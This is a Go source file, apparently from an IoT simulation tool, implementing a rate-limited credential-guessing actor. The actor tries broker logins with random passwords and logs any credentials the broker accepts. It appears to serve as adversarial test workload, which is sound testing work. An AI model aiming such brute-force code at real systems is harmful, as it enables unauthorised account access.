// Copyright (c) Abstract Machines
// SPDX-License-Identifier: Apache-2.0

// Package attack implements the adversarial workload actors: a
// credential-guessing attack and a volumetric flood against the target
// broker. Actors are self-contained; faults never propagate past them.
package attack

import (
	"context"
	"fmt"
	"log/slog"
	"math/rand"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/uuid"
	"golang.org/x/time/rate"

	"github.com/absmach/iotsim/client"
	"github.com/absmach/iotsim/metrics"
)

const (
	passwordLength = 8
	passwordChars  = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"

	// Keepalive for throwaway login attempts; connections live milliseconds.
	attemptKeepAlive = 10 * time.Second

	bruteforceReportEvery = 10
)

// BruteforceConfig describes a credential-guessing attack.
type BruteforceConfig struct {
	Host     string
	Port     int
	Username string
	Rate     int // attempts per second

	// ConnectTimeout bounds each login attempt. Zero uses the dialer default.
	ConnectTimeout time.Duration
}

// Bruteforce repeatedly attempts broker logins with generated passwords at
// a fixed rate. A refused connection is the expected outcome and is counted
// silently; an accepted one is reported and immediately dropped.
type Bruteforce struct {
	cfg    BruteforceConfig
	dialer client.Dialer
	logger *slog.Logger

	limiter *rate.Limiter

	running  atomic.Bool
	stopCh   chan struct{}
	stopOnce sync.Once

	attempts atomic.Int64
	rng      *rand.Rand
}

// NewBruteforce creates a credential-guessing actor.
func NewBruteforce(cfg BruteforceConfig, dialer client.Dialer, logger *slog.Logger) *Bruteforce {
	if logger == nil {
		logger = slog.Default()
	}
	b := &Bruteforce{
		cfg:     cfg,
		dialer:  dialer,
		logger:  logger.With("attack", "bruteforce"),
		limiter: rate.NewLimiter(rate.Limit(cfg.Rate), 1),
		stopCh:  make(chan struct{}),
		rng:     rand.New(rand.NewSource(time.Now().UnixNano())),
	}
	b.running.Store(true)
	return b
}

// Attempts returns the number of login attempts made so far.
func (b *Bruteforce) Attempts() int64 { return b.attempts.Load() }

// Running reports whether the actor's run-flag is still set.
func (b *Bruteforce) Running() bool { return b.running.Load() }

// Run attempts logins until duration elapses or Stop is called. The final
// attempt count is reported exactly once, on exit.
func (b *Bruteforce) Run(duration time.Duration) {
	defer b.Stop()

	b.logger.Info("starting credential-guessing attack",
		"broker", fmt.Sprintf("%s:%d", b.cfg.Host, b.cfg.Port),
		"username", b.cfg.Username,
		"rate", b.cfg.Rate,
		"duration", duration)

	ctx, cancel := context.WithTimeout(context.Background(), duration)
	defer cancel()
	go func() {
		select {
		case <-b.stopCh:
			cancel()
		case <-ctx.Done():
		}
	}()

	for b.running.Load() {
		// Wait paces attempts at the configured rate and fails once the
		// deadline passes or Stop cancels the context.
		if err := b.limiter.Wait(ctx); err != nil {
			break
		}
		b.attempt()
	}

	b.logger.Info("credential-guessing attack finished", "attempts", b.attempts.Load())
}

// Stop clears the run-flag. Safe to call from any goroutine; idempotent.
func (b *Bruteforce) Stop() {
	b.stopOnce.Do(func() {
		b.running.Store(false)
		close(b.stopCh)
	})
}

func (b *Bruteforce) attempt() {
	password := b.randomPassword()

	conn, err := b.dialer.Dial(client.Options{
		Host:           b.cfg.Host,
		Port:           b.cfg.Port,
		ClientID:       "bruteforce_" + uuid.NewString()[:8],
		Username:       b.cfg.Username,
		Password:       password,
		KeepAlive:      attemptKeepAlive,
		ConnectTimeout: b.cfg.ConnectTimeout,
	})
	if err == nil {
		b.logger.Warn("credentials accepted by broker",
			"username", b.cfg.Username,
			"password", password)
		conn.Disconnect()
	}

	metrics.BruteforceAttempts.Inc()
	if n := b.attempts.Add(1); n%bruteforceReportEvery == 0 {
		b.logger.Info("credential-guessing progress", "attempts", n)
	}
}

func (b *Bruteforce) randomPassword() string {
	buf := make([]byte, passwordLength)
	for i := range buf {
		buf[i] = passwordChars[b.rng.Intn(len(passwordChars))]
	}
	return string(buf)
}
